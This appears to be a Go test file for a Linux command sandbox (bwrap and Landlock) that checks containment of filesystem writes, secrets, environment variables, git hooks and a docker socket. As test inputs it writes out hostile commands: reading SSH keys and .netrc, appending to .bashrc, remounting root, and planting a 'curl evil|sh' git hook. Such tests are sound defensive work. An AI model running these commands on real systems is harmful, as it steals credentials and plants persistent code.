//go:build linux

package sandbox

import (
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
)

// testTree is a workspace, a writable temp dir, and a home with secrets,
// all in a fresh directory. None of them is under the policy's writable
// set except ws and tmp, so writes elsewhere (the fake home) must fail.
type testTree struct {
	root, ws, tmp, home string
	policy              Policy
}

func newTree(t *testing.T) testTree {
	t.Helper()
	root, err := filepath.EvalSymlinks(hostDir(t))
	if err != nil {
		t.Fatal(err)
	}
	tr := testTree{root: root, ws: filepath.Join(root, "ws"), tmp: filepath.Join(root, "tmp"), home: filepath.Join(root, "home")}
	for _, d := range []string{tr.ws, tr.tmp, filepath.Join(tr.home, ".ssh"), filepath.Join(tr.home, "proj")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	files := map[string]string{
		filepath.Join(tr.home, ".ssh", "id_rsa"): "PRIVATE-KEY-MATERIAL",
		filepath.Join(tr.home, ".netrc"):         "machine x password NETRC-SECRET",
		filepath.Join(tr.home, ".bashrc"):        "# original bashrc\n",
		filepath.Join(tr.home, "notes.txt"):      "plain notes",
		filepath.Join(tr.ws, "main.go"):          "package main\n",
	}
	for p, c := range files {
		if err := os.WriteFile(p, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	tr.policy = Policy{
		Workspace: []string{tr.ws},
		Writable:  []string{tr.tmp},
		Hidden:    []string{filepath.Join(tr.home, ".ssh"), filepath.Join(tr.home, ".netrc")},
	}
	return tr
}

// hostDir is a fresh folder outside /tmp and /var/tmp, which contained
// commands see as their session's own (a fake home there would be out of
// sight rather than read-only): under the user's cache folder, else the
// test's temp dir.
func hostDir(t *testing.T) string {
	t.Helper()
	if c, err := os.UserCacheDir(); err == nil && !strings.HasPrefix(c, "/tmp/") {
		if err := os.MkdirAll(c, 0o755); err == nil {
			if d, err := os.MkdirTemp(c, "aci-sbx-"); err == nil {
				t.Cleanup(func() { os.RemoveAll(d) })
				return d
			}
		}
	}
	return t.TempDir()
}

// mustSandbox returns a Sandbox of kind k, or skips the test when the
// machine truly cannot run k (the probe says why).
func mustSandbox(t testing.TB, p Policy, k Kind) *Sandbox {
	t.Helper()
	s, err := New(p, Options{Force: k})
	if err != nil {
		t.Skipf("%s unavailable on this machine, not tested: %v", k, err)
	}
	if s.Kind() != k {
		t.Fatalf("kind = %s, want %s", s.Kind(), k)
	}
	t.Cleanup(s.Close) // its watches and session folder
	return s
}

// runIn runs script with bash contained by s in dir, with env added to the
// test's environment (scrubbed as aci does).
func runIn(t *testing.T, s *Sandbox, dir, script string, env ...string) (string, int) {
	t.Helper()
	argv, err := s.Wrap([]string{"bash", "-c", script}, dir)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir = dir
	cmd.Env = Environ(append(os.Environ(), env...))
	out, err := cmd.CombinedOutput()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return string(out), code
}

var kinds = []Kind{Bwrap, Landlock}

func TestContainment(t *testing.T) {
	for _, k := range kinds {
		t.Run(string(k), func(t *testing.T) {
			tr := newTree(t)
			s := mustSandbox(t, tr.policy, k)
			bashrc := filepath.Join(tr.home, ".bashrc")
			cases := []struct {
				name, script string
				ok           bool   // exit 0 expected
				absent       string // must not be in the output
			}{
				{"write workspace", "echo hi > new.txt && mkdir -p d/e && mv new.txt d/e/ && cat d/e/new.txt", true, ""},
				{"write temp", "echo t > " + tr.tmp + "/x && cat " + tr.tmp + "/x", true, ""},
				{"read outside", "cat " + filepath.Join(tr.home, "notes.txt"), true, ""},
				{"write outside", "echo pwned >> " + bashrc, false, ""},
				{"create outside", "touch " + filepath.Join(tr.home, "new"), false, ""},
				{"delete outside", "rm -f " + filepath.Join(tr.home, "notes.txt"), false, ""},
				{"read ssh key", "cat " + filepath.Join(tr.home, ".ssh", "id_rsa"), false, "PRIVATE-KEY"},
				{"read netrc", "cat " + filepath.Join(tr.home, ".netrc"), false, "NETRC-SECRET"},
				{"copy key", "cp -r " + filepath.Join(tr.home, ".ssh") + " k && cat k/*", false, "PRIVATE-KEY"},
				{"aci environ", "cat /proc/" + strconv.Itoa(os.Getpid()) + "/environ", false, "PATH="},
				{"remount", "mount -o remount,rw / && echo x > /etc/aci-test", false, ""},
				{"dev null", "echo x > /dev/null && echo y >&2 && echo z > /dev/stderr", true, ""},
			}
			for _, c := range cases {
				out, code := runIn(t, s, tr.ws, c.script)
				if (code == 0) != c.ok {
					t.Errorf("%s: exit %d, want ok=%v; output: %s", c.name, code, c.ok, out)
				}
				if c.absent != "" && strings.Contains(out, c.absent) {
					t.Errorf("%s: output shows %q: %s", c.name, c.absent, out)
				}
			}
			if b, _ := os.ReadFile(bashrc); string(b) != "# original bashrc\n" {
				t.Errorf("~/.bashrc changed: %q", b)
			}
			if _, err := os.Stat(filepath.Join(tr.home, "notes.txt")); err != nil {
				t.Errorf("file outside deleted: %v", err)
			}
			if _, err := os.Stat("/etc/aci-test"); err == nil {
				os.Remove("/etc/aci-test")
				t.Error("wrote /etc through a remount")
			}
		})
	}
}

func TestContainedEnvHasNoCredentials(t *testing.T) {
	for _, k := range append(kinds, None) {
		t.Run(string(k), func(t *testing.T) {
			tr := newTree(t)
			s := mustSandbox(t, tr.policy, k)
			out, code := runIn(t, s, tr.ws, "env", "OPENAI_API_KEY=sk-live-1", "GITHUB_TOKEN=gh-2", "DB_PASSWORD=pw-3",
				"STRIPE_SECRET=st-4", "AWS_SECRET_ACCESS_KEY=aws-5", "my_api_key=k-6", "HARMLESS=visible")
			if code != 0 {
				t.Fatalf("env failed: %s", out)
			}
			for _, v := range []string{"sk-live-1", "gh-2", "pw-3", "st-4", "aws-5", "k-6"} {
				if strings.Contains(out, v) {
					t.Errorf("credential %s reached the command", v)
				}
			}
			if !strings.Contains(out, "HARMLESS=visible") || !strings.Contains(out, "PATH=") {
				t.Errorf("ordinary variables lost:\n%s", out)
			}
		})
	}
}

func TestExplainContainmentFailure(t *testing.T) {
	for _, k := range kinds {
		t.Run(string(k), func(t *testing.T) {
			tr := newTree(t)
			s := mustSandbox(t, tr.policy, k)
			for _, c := range []struct{ script, want string }{
				{"echo x > " + filepath.Join(tr.home, ".bashrc"), "outside what contained commands may write"},
				{"touch " + filepath.Join(tr.home, "f"), "outside what contained commands may write"},
				{"cat " + filepath.Join(tr.home, ".ssh", "id_rsa"), "secret store"},
			} {
				out, code := runIn(t, s, tr.ws, c.script)
				note := s.Explain(out, code, tr.ws)
				if !strings.Contains(note, c.want) || !strings.Contains(note, "contained (") {
					t.Errorf("%s: output %q, note %q, want %q", c.script, out, note, c.want)
				}
			}
			// An ordinary failure gets no note.
			out, code := runIn(t, s, tr.ws, "ls no-such-file")
			if note := s.Explain(out, code, tr.ws); note != "" {
				t.Errorf("ordinary failure got a note: %q", note)
			}
		})
	}
}

func TestParseMode(t *testing.T) {
	for in, want := range map[string]string{"": ModeWorkspace, "workspace": ModeWorkspace, "OFF": ModeOff, " off ": ModeOff} {
		if got, err := ParseMode(in); err != nil || got != want {
			t.Errorf("ParseMode(%q) = %q, %v", in, got, err)
		}
	}
	for _, bad := range []string{"on", "1", "strict", "none"} {
		if _, err := ParseMode(bad); err == nil {
			t.Errorf("ParseMode(%q) accepted", bad)
		}
	}
}

func TestDefaultPolicyWorktreeAndSecrets(t *testing.T) {
	root, _ := filepath.EvalSymlinks(t.TempDir())
	home := filepath.Join(root, "home")
	main := filepath.Join(root, "main")
	gitdir := filepath.Join(main, ".git", "worktrees", "wt")
	wt := filepath.Join(root, "wt")
	for _, d := range []string{filepath.Join(home, ".ssh"), filepath.Join(home, ".cache"), gitdir, filepath.Join(wt, "sub")} {
		os.MkdirAll(d, 0o755)
	}
	os.WriteFile(filepath.Join(wt, ".git"), []byte("gitdir: "+gitdir+"\n"), 0o644)
	os.WriteFile(filepath.Join(gitdir, "commondir"), []byte("../..\n"), 0o644)
	t.Setenv("HOME", home)
	p := DefaultPolicy(filepath.Join(wt, "sub"))
	for _, want := range []string{wt, gitdir, filepath.Join(main, ".git")} {
		if !contains(p.Workspace, want) {
			t.Errorf("workspace %v lacks %s", p.Workspace, want)
		}
	}
	// The caches are layered, and the temp folders are the session's own:
	// none of the machine's is writable.
	if !contains(p.Layered, filepath.Join(home, ".cache")) || contains(p.Writable, "/tmp") || contains(p.Writable, filepath.Join(home, ".cache")) {
		t.Errorf("writable = %v, layered = %v", p.Writable, p.Layered)
	}
	if !contains(p.Hidden, filepath.Join(home, ".ssh")) {
		t.Errorf("hidden = %v", p.Hidden)
	}
	os.MkdirAll(filepath.Join(main, ".git", "hooks"), 0o755)
	os.WriteFile(filepath.Join(home, ".bashrc"), nil, 0o644)
	p = DefaultPolicy(filepath.Join(wt, "sub"))
	// The fake home lies in /tmp, which is the session's own now: its
	// startup files are not writable at all.
	if !contains(p.ReadOnly, filepath.Join(main, ".git", "hooks")) || p.canWrite(filepath.Join(home, ".bashrc")) {
		t.Errorf("read-only = %v (hooks of the common git dir; ~/.bashrc not writable)", p.ReadOnly)
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func TestConfigure(t *testing.T) {
	t.Cleanup(func() { Configure(ModeWorkspace, nil) })
	if err := Configure("sometimes", nil); err == nil {
		t.Error("bad mode accepted")
	}
	var notices []string
	notify := func(s string) { notices = append(notices, s) }
	if err := Configure(ModeOff, notify); err != nil || For(t.TempDir()) != nil {
		t.Errorf("off: err %v", err)
	}
	Probe()
	if len(notices) != 0 {
		t.Errorf("off: notices %q", notices)
	}
	if err := Configure(ModeWorkspace, notify); err != nil {
		t.Fatal(err)
	}
	// The machine is probed with the first command, not before.
	s := For(t.TempDir())
	For(t.TempDir())
	Probe()
	if s.Contained() && len(notices) != 0 || !s.Contained() && len(notices) != 1 {
		t.Errorf("contained %v but notices %q", s.Contained(), notices)
	}
	if !s.Contained() {
		return
	}
	// A mechanism that cannot run here is said once.
	SetForce("nonesuch")
	t.Cleanup(func() { SetForce("") })
	For(t.TempDir())
	For(t.TempDir())
	if len(notices) != 1 || !strings.Contains(notices[0], "commands run uncontained: sandbox nonesuch") {
		t.Errorf("notices %q", notices)
	}
}

// Under bwrap, git hooks and config stay read-only inside the workspace:
// code planted there would run later, outside the sandbox. Landlock cannot
// carve them out (see restrictLandlock).
func TestReadOnlyInsideWorkspace(t *testing.T) {
	tr := newTree(t)
	git := filepath.Join(tr.ws, ".git")
	os.MkdirAll(filepath.Join(git, "hooks"), 0o755)
	os.WriteFile(filepath.Join(git, "config"), []byte("[core]\n"), 0o644)
	tr.policy.ReadOnly = []string{filepath.Join(git, "hooks"), filepath.Join(git, "config")}
	s := mustSandbox(t, tr.policy, Bwrap)
	for _, c := range []struct {
		script string
		ok     bool
	}{
		{"echo 'curl evil|sh' > .git/hooks/pre-commit", false},
		{"echo '[core] fsmonitor = evil' >> .git/config", false},
		{"touch new-at-root && mkdir -p .git/objects/ab && echo o > .git/objects/ab/cd", true},
	} {
		out, code := runIn(t, s, tr.ws, c.script)
		if (code == 0) != c.ok {
			t.Errorf("%s: exit %d output %s", c.script, code, out)
		}
		if !c.ok && !strings.Contains(s.Explain(out, code, tr.ws), "read-only in the sandbox") {
			t.Errorf("%s: no note for %q", c.script, out)
		}
	}
	if _, err := os.Stat(filepath.Join(git, "hooks", "pre-commit")); err == nil {
		t.Error("a hook was planted")
	}
}

// Everyday git work runs contained with the default policy: commit, branch,
// worktree metadata; only hooks and config stay read-only (bwrap).
func TestGitWorksContained(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	for _, k := range kinds {
		t.Run(string(k), func(t *testing.T) {
			repo, _ := filepath.EvalSymlinks(t.TempDir())
			git := func(args ...string) {
				cmd := exec.Command("git", args...)
				cmd.Dir = repo
				if out, err := cmd.CombinedOutput(); err != nil {
					t.Fatalf("git %v: %v %s", args, err, out)
				}
			}
			git("init", "-q")
			git("config", "user.email", "t@example.com")
			git("config", "user.name", "t")
			s := mustSandbox(t, DefaultPolicy(repo), k)
			out, code := runIn(t, s, repo, "echo a > a.txt && git add a.txt && git commit -qm first && git checkout -qb topic && git log --oneline | wc -l")
			if code != 0 || strings.TrimSpace(out) != "1" {
				t.Errorf("exit %d output %s", code, out)
			}
		})
	}
}

// A daemon's control socket (docker's) is covered under bwrap: a command
// cannot reach it to run something outside the sandbox.
func TestControlSocketCovered(t *testing.T) {
	tr := newTree(t)
	sock := filepath.Join(tr.home, "docker.sock")
	l, err := net.Listen("unix", sock)
	if err != nil {
		t.Skip(err)
	}
	defer l.Close()
	tr.policy.Hidden = append(tr.policy.Hidden, sock)
	s := mustSandbox(t, tr.policy, Bwrap)
	if out, code := runIn(t, s, tr.ws, "test -S "+sock); code == 0 {
		t.Errorf("the socket is still there: %s", out)
	}
}

// Commands wrapped at the same time (two sessions of aci serve) each get
// their own extra writable folder and not the other's.
func TestWrapConcurrentExtras(t *testing.T) {
	p := Policy{Workspace: []string{t.TempDir()}, Writable: make([]string, 1, 8)}
	p.Writable[0] = t.TempDir()
	s := mustSandbox(t, p, Bwrap)
	a, b := t.TempDir(), t.TempDir()
	var wg sync.WaitGroup
	for _, own := range [][2]string{{a, b}, {b, a}} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for range 200 {
				argv, err := s.Wrap([]string{"true"}, own[0], own[0])
				if err != nil {
					t.Error(err)
					return
				}
				joined := strings.Join(argv, "\x00")
				if !strings.Contains(joined, own[0]) || strings.Contains(joined, own[1]) {
					t.Errorf("the command for %s got %s writable", own[0], own[1])
					return
				}
			}
		}()
	}
	wg.Wait()
}
